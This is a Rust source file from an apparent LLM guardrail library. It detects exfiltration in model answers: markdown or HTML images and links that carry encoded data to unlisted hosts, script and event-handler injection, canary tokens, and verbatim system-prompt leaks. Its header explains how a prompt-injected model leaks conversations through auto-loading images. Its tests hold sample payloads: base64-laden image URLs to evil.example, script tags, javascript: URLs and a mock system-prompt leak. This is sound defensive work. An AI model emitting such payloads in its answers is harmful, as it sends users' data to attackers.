@@ -1,0 +1,701 @@
+//! Output-side detectors (kind `exfiltration`): what a model's answer can do to the user
+//! or leak about its instructions once a client renders it.
+//!
+//! - `MARKDOWN_IMAGE_EXFILTRATION` / `IMAGE_EXFILTRATION`: a markdown image or an HTML
+//!   element that loads by itself (`<img>`, `<iframe>`, `<video>` ...) pointing to a host
+//!   not in `exfiltration.allowed_domains`, with data in its URL. The client fetches it
+//!   without a click, so a prompt-injected model can send the conversation to an attacker.
+//! - `LINK_EXFILTRATION`: the same for links (markdown, reference definitions, `<a>`),
+//!   only when the URL carries long or encoded data (a click is needed).
+//! - `HTML_INJECTION`: `<script>`, `<iframe>`, `<object>`, `<embed>`, `<base>`, meta
+//!   refresh, `javascript:` / `vbscript:` / `data:text/html` URLs, and `on…=` event
+//!   handlers in tags, for clients that render HTML.
+//! - `SYSTEM_PROMPT_LEAK`: a canary token from the policy or the session, or a run of
+//!   words copied verbatim from one of the session's system prompts (shingles of
+//!   [`SHINGLE_WORDS`] words, hashed once when the prompt is remembered).
+//!
+//! These detectors only run on [`Direction::Output`]. Every match is bounded
+//! ([`MAX_URL`] bytes of URL, [`MAX_TAG`] bytes of tag), which bounds what a stream holds
+//! back; in practice only the unterminated construct at the end of a chunk is held.
+
+use super::{Detections, Detector, trailing_word_start};
+use crate::engine::Context;
+use crate::error::GuardError;
+use crate::normalize::Normalized;
+use crate::policy::ExfiltrationPolicy;
+use crate::session::Session;
+use rampart_core::{Direction, Finding, FindingKind};
+use regex::Regex;
+
+/// Longest URL the detectors look at, in bytes.
+pub const MAX_URL: usize = 2048;
+/// Longest HTML tag the detectors look at, in bytes.
+pub const MAX_TAG: usize = 2048;
+/// Words per shingle when comparing an answer with the system prompts.
+pub const SHINGLE_WORDS: usize = 5;
+/// The most a stream holds back for a run of words that may be a system-prompt leak.
+const LEAK_HOLD: usize = 4096;
+
+/// Longest span reported: longer constructs are reported truncated to this many bytes.
+const MAX_MATCH: usize = 512 + MAX_URL + MAX_TAG;
+
+/// Images, links and active HTML in an answer; canary tokens from the policy.
+#[derive(Debug)]
+pub struct ExfiltrationDetector {
+    allowed_domains: Vec<String>,
+    html: bool,
+    canaries: Option<Regex>,
+    canary_max: usize,
+    markdown: Regex,
+    reference: Regex,
+    html_url: Regex,
+    html_exec: Regex,
+}
+
+fn static_regex(pattern: &str) -> Result<Regex, GuardError> {
+    Regex::new(pattern).map_err(|e| GuardError::Detector {
+        detector: "exfiltration",
+        reason: e.to_string(),
+    })
+}
+
+impl ExfiltrationDetector {
+    pub fn new(policy: &ExfiltrationPolicy) -> Result<Self, GuardError> {
+        let canaries = if policy.canary_tokens.is_empty() {
+            None
+        } else {
+            let alternatives: Vec<String> = policy
+                .canary_tokens
+                .iter()
+                .map(|c| regex::escape(c))
+                .collect();
+            Some(static_regex(&alternatives.join("|"))?)
+        };
+        Ok(ExfiltrationDetector {
+            allowed_domains: policy
+                .allowed_domains
+                .iter()
+                .map(|d| d.trim_start_matches("*.").to_ascii_lowercase())
+                .collect(),
+            html: policy.html,
+            canaries,
+            canary_max: policy
+                .canary_tokens
+                .iter()
+                .map(String::len)
+                .max()
+                .unwrap_or(0),
+            markdown: static_regex(
+                r#"(!?)\[[^\]\n]*\][ \t]{0,8}\([ \t]{0,8}<?([^\s()<>]+)>?(?:[ \t]{1,8}(?:"[^"\n]*"|'[^'\n]*'))?[ \t]{0,8}\)"#,
+            )?,
+            reference: static_regex(r"(?m)^[ \t]{0,3}\[[^\]\n]+\]:[ \t]{0,8}<?([^\s<>]+)>?")?,
+            html_url: static_regex(
+                r#"(?i)<(img|image|iframe|frame|source|video|audio|embed|object|input|link|a|area|form)\b[^>]*?[\s/"'](?:src|href|srcset|data|poster|action|background)[ \t\r\n]*=[ \t\r\n]*["']?([^"'\s>]+)[^>]*>?"#,
+            )?,
+            html_exec: static_regex(
+                r#"(?i)<[ \t]*(?:script|iframe|object|embed|frame|frameset|base|meta[ \t\r\n]+http-equiv)\b[^>]*>?|\b(?:javascript|vbscript|livescript)[ \t]*:[^\s"'<>]+|\bdata:text/html[^\s"'<>]*|<[a-z][a-z0-9-]{0,32}\b[^>]*?[\s/"']on[a-z]{3,32}[ \t\r\n]*=[^>]*>?"#,
+            )?,
+        })
+    }
+
+    fn host_allowed(&self, host: &str) -> bool {
+        self.allowed_domains.iter().any(|d| {
+            host == d
+                || (host.len() > d.len()
+                    && host.ends_with(d.as_str())
+                    && host.as_bytes()[host.len() - d.len() - 1] == b'.')
+        })
+    }
+
+    /// The score of a finding for `url` (`None`: not exfiltration).
+    fn judge_url(&self, url: &str, loads_by_itself: bool) -> Option<f32> {
+        let parts = UrlParts::parse(url)?;
+        if self.host_allowed(&parts.host) {
+            return None;
+        }
+        match parts.data() {
+            DataAmount::Encoded => Some(if loads_by_itself { 0.95 } else { 0.8 }),
+            DataAmount::Some if loads_by_itself => Some(0.7),
+            _ => None,
+        }
+    }
+}
+
+impl Detector for ExfiltrationDetector {
+    fn name(&self) -> &'static str {
+        "exfiltration"
+    }
+
+    fn detect(
+        &self,
+        text: &Normalized<'_>,
+        ctx: &Context,
+        out: &mut Detections,
+    ) -> Result<(), GuardError> {
+        if ctx.direction != Direction::Output {
+            return Ok(());
+        }
+        let haystack = text.text();
+        let mut push = |start: usize, end: usize, entity: &'static str, score: f32| {
+            // Unterminated constructs (`<script` with no `>`) run to the end of the text:
+            // report their beginning, which is what a renderer acts on.
+            let end = if end - start > MAX_MATCH {
+                floor_char_boundary(haystack, start + MAX_MATCH)
+            } else {
+                end
+            };
+            let (s, e) = text.span_to_original(start, end);
+            out.findings
+                .push(Finding::new(FindingKind::Exfiltration, entity, s, e, score));
+        };
+        if haystack.contains('[') {
+            for c in self.markdown.captures_iter(haystack) {
+                let (Some(all), Some(url)) = (c.get(0), c.get(2)) else {
+                    continue;
+                };
+                let image = c.get(1).is_some_and(|m| !m.is_empty());
+                if let Some(score) = self.judge_url(url.as_str(), image) {
+                    let entity = if image {
+                        "MARKDOWN_IMAGE_EXFILTRATION"
+                    } else {
+                        "LINK_EXFILTRATION"
+                    };
+                    push(all.start(), all.end(), entity, score);
+                }
+            }
+            for c in self.reference.captures_iter(haystack) {
+                let (Some(all), Some(url)) = (c.get(0), c.get(1)) else {
+                    continue;
+                };
+                // A reference definition may serve an image (`![x][ref]`): judge it as
+                // one when the answer has any reference-style image.
+                let image = haystack.contains("![") && haystack.contains("][");
+                if let Some(score) = self.judge_url(url.as_str(), image) {
+                    push(all.start(), all.end(), "LINK_EXFILTRATION", score);
+                }
+            }
+        }
+        if haystack.contains('<') {
+            for c in self.html_url.captures_iter(haystack) {
+                let (Some(all), Some(tag), Some(url)) = (c.get(0), c.get(1), c.get(2)) else {
+                    continue;
+                };
+                let tag = tag.as_str();
+                let link = ["a", "area", "form"]
+                    .iter()
+                    .any(|t| tag.eq_ignore_ascii_case(t));
+                if let Some(score) = self.judge_url(url.as_str(), !link) {
+                    let entity = if link {
+                        "LINK_EXFILTRATION"
+                    } else {
+                        "IMAGE_EXFILTRATION"
+                    };
+                    push(all.start(), all.end(), entity, score);
+                }
+            }
+        }
+        if self.html {
+            for m in self.html_exec.find_iter(haystack) {
+                push(m.start(), m.end(), "HTML_INJECTION", 0.9);
+            }
+        }
+        if let Some(canaries) = &self.canaries {
+            for m in canaries.find_iter(haystack) {
+                push(m.start(), m.end(), "SYSTEM_PROMPT_LEAK", 1.0);
+            }
+        }
+        Ok(())
+    }
+
+    fn max_match_len(&self) -> usize {
+        MAX_MATCH.max(self.canary_max)
+    }
+
+    fn pending_tail(&self, text: &str, ctx: &Context) -> usize {
+        if ctx.direction != Direction::Output {
+            return 0;
+        }
+        let limit = self.max_match_len();
+        let floor = text.len().saturating_sub(limit);
+        let window_start = ceil_char_boundary(text, floor);
+        let window = &text[window_start..];
+        // Every match starts with `!`, `[`, `<`, or a word (`javascript:`, `data:`, a
+        // canary without spaces): hold from the earliest construct still open.
+        let mut start = trailing_word_start(text, limit);
+        if let Some(i) = window.rfind('<')
+            && !window[i..].contains('>')
+        {
+            start = start.min(window_start + i);
+        }
+        // A markdown link or image is open from its `[` until its `)` (or the end of the
+        // line of a reference definition); `![` includes the `!`.
+        let line_start = window.rfind('\n').map_or(0, |i| i + 1);
+        let line = &window[line_start..];
+        if let Some(i) = first_open_bracket(line) {
+            let i = line_start + i;
+            let i = if i > 0 && window.as_bytes()[i - 1] == b'!' {
+                i - 1
+            } else {
+                i
+            };
+            start = start.min(window_start + i);
+        }
+        // A markdown link may also wrap onto the next line inside its title: rare; the
+        // `(` after `]` on the previous line keeps that line open too.
+        if line_start > 0 {
+            let previous = &window[..line_start - 1];
+            let prev_line_start = previous.rfind('\n').map_or(0, |i| i + 1);
+            let prev = &previous[prev_line_start..];
+            if let Some(i) = prev.rfind("](")
+                && !prev[i..].contains(')')
+            {
+                let open = prev[..i].rfind('[').unwrap_or(0);
+                start = start.min(window_start + prev_line_start + open);
+            }
+        }
+        if self.canary_max > 0 {
+            start = start.min(text.len().saturating_sub(self.canary_max));
+            start = floor_char_boundary(text, start);
+        }
+        text.len() - start
+    }
+}
+
+/// The offset of the first `[` in `line` (the last line of a stream's pending text) that
+/// may still open a markdown link, image or reference definition.
+fn first_open_bracket(line: &str) -> Option<usize> {
+    const MAX_CANDIDATES: usize = 64;
+    for (n, (i, _)) in line.match_indices('[').enumerate() {
+        if n == MAX_CANDIDATES {
+            return Some(i);
+        }
+        let rest = &line[i + 1..];
+        let Some(close) = rest.find(']') else {
+            return Some(i);
+        };
+        let after = rest[close + 1..].trim_start_matches([' ', '\t']);
+        let open = match after.chars().next() {
+            None => true,
+            Some('(') => !after.contains(')'),
+            // A reference definition runs to the end of the line, which has not come.
+            Some(':') => line[..i].trim_start_matches([' ', '\t']).is_empty(),
+            Some(_) => false,
+        };
+        if open {
+            return Some(i);
+        }
+    }
+    None
+}
+
+/// The smallest character boundary of `s` at or after `i`.
+fn ceil_char_boundary(s: &str, mut i: usize) -> usize {
+    while i < s.len() && !s.is_char_boundary(i) {
+        i += 1;
+    }
+    i.min(s.len())
+}
+
+/// The largest character boundary of `s` at or before `i`.
+fn floor_char_boundary(s: &str, mut i: usize) -> usize {
+    i = i.min(s.len());
+    while !s.is_char_boundary(i) {
+        i -= 1;
+    }
+    i
+}
+
+/// How much data a URL carries.
+#[derive(Debug, PartialEq, Eq, PartialOrd, Ord)]
+enum DataAmount {
+    None,
+    /// Short parameters: a tracking pixel with a name in it.
+    Some,
+    /// Long or encoded data (base64, hex, percent-encoding, or simply long).
+    Encoded,
+}
+
+/// The parts of an absolute `http(s)` URL that matter here.
+#[derive(Debug)]
+struct UrlParts<'a> {
+    host: String,
+    path: &'a str,
+    query: &'a str,
+    fragment: &'a str,
+}
+
+impl<'a> UrlParts<'a> {
+    fn parse(url: &'a str) -> Option<Self> {
+        let rest = if let Some((scheme, rest)) = url.split_once("://") {
+            if !scheme.eq_ignore_ascii_case("http") && !scheme.eq_ignore_ascii_case("https") {
+                return None;
+            }
+            rest
+        } else {
+            url.strip_prefix("//")?
+        };
+        let authority_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
+        let authority = &rest[..authority_end];
+        let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
+        let host = if let Some(v6) = host_port.strip_prefix('[') {
+            v6.split(']').next().unwrap_or(v6)
+        } else {
+            host_port.split(':').next().unwrap_or(host_port)
+        };
+        let host = host.trim_end_matches('.').to_ascii_lowercase();
+        if host.is_empty() {
+            return None;
+        }
+        let tail = &rest[authority_end..];
+        let (before_fragment, fragment) = tail.split_once('#').unwrap_or((tail, ""));
+        let (path, query) = before_fragment
+            .split_once('?')
+            .unwrap_or((before_fragment, ""));
+        Some(UrlParts {
+            host,
+            path,
+            query,
+            fragment,
+        })
+    }
+
+    fn data(&self) -> DataAmount {
+        let mut amount = DataAmount::None;
+        for segment in self.path.split('/') {
+            amount = amount.max(judge_value(segment, false));
+        }
+        for pair in self.query.split(['&', ';']) {
+            let value = pair.split_once('=').map_or(pair, |(_, v)| v);
+            amount = amount.max(judge_value(value, true));
+        }
+        amount.max(judge_value(self.fragment, true))
+    }
+}
+
+/// How much data one path segment or parameter value carries.
+fn judge_value(value: &str, parameter: bool) -> DataAmount {
+    let len = value.len();
+    if len == 0 {
+        return DataAmount::None;
+    }
+    let escapes = value.matches('%').count();
+    let (mut upper, mut lower, mut digit, mut hex) = (0, 0, 0, 0);
+    for b in value.bytes() {
+        upper += usize::from(b.is_ascii_uppercase());
+        lower += usize::from(b.is_ascii_lowercase());
+        digit += usize::from(b.is_ascii_digit());
+        hex += usize::from(b.is_ascii_hexdigit());
+    }
+    let base64ish = len >= 16 && upper > 0 && lower > 0 && digit > 0;
+    let hexish = len >= 24 && hex == len;
+    if escapes >= 3 || base64ish || hexish || len >= 64 || (parameter && len >= 32) {
+        DataAmount::Encoded
+    } else if parameter && len >= 3 {
+        DataAmount::Some
+    } else {
+        DataAmount::None
+    }
+}
+
+/// Append a `SYSTEM_PROMPT_LEAK` finding for each canary of `session` in `text`, and for
+/// each run of at least the threshold of words copied from a system prompt.
+pub(crate) fn session_leaks(
+    text: &Normalized<'_>,
+    session: &Session,
+    leak_min_words: usize,
+    out: &mut Detections,
+) {
+    let haystack = text.text();
+    let mut push = |start: usize, end: usize| {
+        let (s, e) = text.span_to_original(start, end);
+        out.findings.push(Finding::new(
+            FindingKind::Exfiltration,
+            "SYSTEM_PROMPT_LEAK",
+            s,
+            e,
+            1.0,
+        ));
+    };
+    for canary in session.canaries() {
+        for (i, _) in haystack.match_indices(canary.as_str()) {
+            push(i, i + canary.len());
+        }
+    }
+    let shingles = session.prompt_shingles();
+    if shingles.is_empty() {
+        return;
+    }
+    let words = word_spans(haystack);
+    if words.len() < SHINGLE_WORDS {
+        return;
+    }
+    let hashes: Vec<u64> = words
+        .iter()
+        .map(|&(s, e)| word_hash(&haystack[s..e]))
+        .collect();
+    // covered[i]: word i is in a shingle that occurs in a system prompt; `threshold` is
+    // the smallest word count that counts as a leak for the prompts matched in the run.
+    let mut covered_until = 0usize;
+    let mut run: Option<(usize, usize)> = None; // (first word, threshold)
+    let mut flush = |run: Option<(usize, usize)>, end_word: usize| {
+        if let Some((first, threshold)) = run
+            && end_word - first >= threshold
+        {
+            push(words[first].0, words[end_word - 1].1);
+        }
+    };
+    for i in 0..=words.len() - SHINGLE_WORDS {
+        let h = shingle_hash(&hashes[i..i + SHINGLE_WORDS]);
+        if let Some(&prompt_words) = shingles.get(&h) {
+            let threshold = leak_threshold(prompt_words as usize, leak_min_words);
+            match &mut run {
+                Some((_, t)) if i <= covered_until => *t = (*t).min(threshold),
+                _ => {
+                    flush(run, covered_until);
+                    run = Some((i, threshold));
+                }
+            }
+            covered_until = i + SHINGLE_WORDS;
+        }
+    }
+    flush(run, covered_until);
+}
+
+/// Words copied in a row that count as a leak of a prompt of `prompt_words` words.
+fn leak_threshold(prompt_words: usize, leak_min_words: usize) -> usize {
+    leak_min_words.min((prompt_words * 3).div_ceil(5).max(SHINGLE_WORDS))
+}
+
+/// How many bytes at the end of `text` a stream holds back for session-based leaks: the
+/// last `SHINGLE_WORDS` words (a shingle may still complete), bounded.
+pub(crate) fn session_pending_tail(text: &str, session: &Session) -> usize {
+    if session.prompt_shingles().is_empty() && session.canaries().is_empty() {
+        return 0;
+    }
+    let canary = session
+        .canaries()
+        .iter()
+        .map(String::len)
+        .max()
+        .unwrap_or(0);
+    let mut start = text.len();
+    let mut words = 0;
+    let mut in_word = false;
+    for (i, c) in text.char_indices().rev() {
+        if text.len() - i > LEAK_HOLD {
+            break;
+        }
+        if c.is_alphanumeric() {
+            in_word = true;
+        } else if in_word {
+            in_word = false;
+            words += 1;
+            if words >= SHINGLE_WORDS {
+                break;
+            }
+        }
+        start = i;
+    }
+    (text.len() - start).max(canary.min(text.len()))
+}
+
+/// Byte spans of the words (runs of alphanumeric characters) of `text`.
+pub(crate) fn word_spans(text: &str) -> Vec<(usize, usize)> {
+    let mut spans = Vec::new();
+    let mut start = None;
+    for (i, c) in text.char_indices() {
+        match (c.is_alphanumeric(), start) {
+            (true, None) => start = Some(i),
+            (false, Some(s)) => {
+                spans.push((s, i));
+                start = None;
+            }
+            _ => {}
+        }
+    }
+    if let Some(s) = start {
+        spans.push((s, text.len()));
+    }
+    spans
+}
+
+/// A case-insensitive hash of one word (FNV-1a over the lower-cased characters).
+pub(crate) fn word_hash(word: &str) -> u64 {
+    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
+    for c in word.chars().flat_map(char::to_lowercase) {
+        h ^= u64::from(u32::from(c));
+        h = h.wrapping_mul(0x0100_0000_01b3);
+    }
+    h
+}
+
+/// The hash of a run of word hashes.
+pub(crate) fn shingle_hash(words: &[u64]) -> u64 {
+    words.iter().fold(0x9e37_79b9_7f4a_7c15, |acc, w| {
+        (acc.rotate_left(17) ^ w).wrapping_mul(0x0100_0000_01b3)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::policy::Policy;
+
+    fn findings(policy: &str, text: &str) -> Vec<(String, String)> {
+        let policy = Policy::from_toml_str(policy).unwrap();
+        let d = ExfiltrationDetector::new(&policy.exfiltration).unwrap();
+        let mut out = Detections::default();
+        let n = Normalized::new(text);
+        d.detect(&n, &Context::output(), &mut out).unwrap();
+        out.findings
+            .iter()
+            .map(|f| {
+                let value: String = text.chars().skip(f.start).take(f.end - f.start).collect();
+                (f.entity.clone(), value)
+            })
+            .collect()
+    }
+
+    #[test]
+    fn markdown_image_with_data_to_unknown_host_is_exfiltration() {
+        let text =
+            "Done! ![loading](https://evil.example/p.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ) ok";
+        assert_eq!(
+            findings("", text),
+            vec![(
+                "MARKDOWN_IMAGE_EXFILTRATION".into(),
+                "![loading](https://evil.example/p.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ)".into()
+            )]
+        );
+    }
+
+    #[test]
+    fn allowed_domain_and_plain_images_are_not_reported() {
+        let policy = "[exfiltration]\nallowed_domains = [\"cdn.acme.example\"]\n";
+        let text = "![a](https://img.cdn.acme.example/x.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ) \
+                    ![b](https://other.example/logo.png) [docs](https://docs.rs/regex/latest/regex/)";
+        assert!(
+            findings(policy, text).is_empty(),
+            "{:?}",
+            findings(policy, text)
+        );
+        // A look-alike suffix is not a subdomain.
+        let text = "![a](https://evilcdn.acme.example.evil/x.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ)";
+        assert_eq!(findings(policy, text).len(), 1);
+    }
+
+    #[test]
+    fn tracking_pixel_with_short_parameter_is_reported_but_link_is_not() {
+        let f = findings(
+            "",
+            "![x](https://t.example/a.gif?name=John) [x](https://t.example/?name=John)",
+        );
+        assert_eq!(f.len(), 1);
+        assert_eq!(f[0].0, "MARKDOWN_IMAGE_EXFILTRATION");
+    }
+
+    #[test]
+    fn link_with_encoded_path_segment_and_reference_definition() {
+        let f = findings(
+            "",
+            "[click](https://evil.example/c/4a6f686e20446f65206c6976657320696e) and\n[ref]: https://evil.example/?q=%4a%6f%68%6e%20%44\n",
+        );
+        let types: Vec<&str> = f.iter().map(|f| f.0.as_str()).collect();
+        assert_eq!(types, vec!["LINK_EXFILTRATION", "LINK_EXFILTRATION"]);
+    }
+
+    #[test]
+    fn html_image_and_active_content() {
+        let f = findings(
+            "",
+            "<img alt=\"x\" src=\"https://evil.example/i?c=SGVsbG8gV29ybGQgMTIz\"> <script>alert(1)</script> \
+             <a href=\"javascript:alert(1)\">x</a> <div onmouseover=\"steal()\">",
+        );
+        let types: Vec<&str> = f.iter().map(|f| f.0.as_str()).collect();
+        assert!(types.contains(&"IMAGE_EXFILTRATION"), "{f:?}");
+        assert_eq!(
+            types.iter().filter(|t| **t == "HTML_INJECTION").count(),
+            3,
+            "{f:?}"
+        );
+        assert!(f.iter().any(|(_, v)| v.starts_with("javascript:alert(1)")));
+    }
+
+    #[test]
+    fn prose_about_javascript_is_not_html_injection() {
+        assert!(findings("", "In JavaScript: use `onload` handlers carefully.").is_empty());
+    }
+
+    #[test]
+    fn policy_canary_is_a_leak() {
+        let f = findings(
+            "[exfiltration]\ncanary_tokens = [\"CANARY-7f3a9c\"]\n",
+            "the secret is CANARY-7f3a9c.",
+        );
+        assert_eq!(
+            f,
+            vec![("SYSTEM_PROMPT_LEAK".into(), "CANARY-7f3a9c".into())]
+        );
+    }
+
+    #[test]
+    fn input_direction_is_not_inspected() {
+        let d = ExfiltrationDetector::new(&ExfiltrationPolicy::default()).unwrap();
+        let mut out = Detections::default();
+        let text = "<script>x</script>";
+        d.detect(
+            &Normalized::new(text),
+            &Context::input(rampart_core::Role::User),
+            &mut out,
+        )
+        .unwrap();
+        assert!(out.findings.is_empty());
+    }
+
+    #[test]
+    fn verbatim_system_prompt_run_is_a_leak_and_paraphrase_is_not() {
+        let mut session = Session::new();
+        session.remember_system_prompt(
+            "You are Orca, the support assistant of Acme Bank. Never discuss interest rates \
+             with customers and always refer them to a human advisor when they ask about loans.",
+        );
+        let leak = "Sure! My instructions: you are Orca, the support assistant of Acme Bank. \
+                    Never discuss interest rates with customers and always refer them to a human \
+                    advisor. Anything else?";
+        let mut out = Detections::default();
+        session_leaks(&Normalized::new(leak), &session, 20, &mut out);
+        assert_eq!(out.findings.len(), 1, "{:?}", out.findings);
+        let f = &out.findings[0];
+        let value: String = leak.chars().skip(f.start).take(f.end - f.start).collect();
+        assert_eq!(
+            value,
+            "you are Orca, the support assistant of Acme Bank. Never discuss interest rates with customers and always refer them to a human advisor"
+        );
+        let mut out = Detections::default();
+        session_leaks(
+            &Normalized::new("I am a support assistant at a bank and cannot discuss rates."),
+            &session,
+            20,
+            &mut out,
+        );
+        assert!(out.findings.is_empty());
+    }
+
+    #[test]
+    fn pending_tail_holds_only_the_open_construct() {
+        let d = ExfiltrationDetector::new(&ExfiltrationPolicy::default()).unwrap();
+        let ctx = Context::output();
+        let closed = format!("{} and a sentence that ends.", "word ".repeat(200));
+        assert_eq!(d.pending_tail(&closed, &ctx), "ends.".len());
+        let open = format!("{}![img](https://evil.example/?q=abc", "word ".repeat(200));
+        assert_eq!(
+            d.pending_tail(&open, &ctx),
+            "![img](https://evil.example/?q=abc".len()
+        );
+        let open_tag = format!("{}<img alt=\"a b\" src=", "word ".repeat(200));
+        assert_eq!(
+            d.pending_tail(&open_tag, &ctx),
+            "<img alt=\"a b\" src=".len()
+        );
+    }
+}
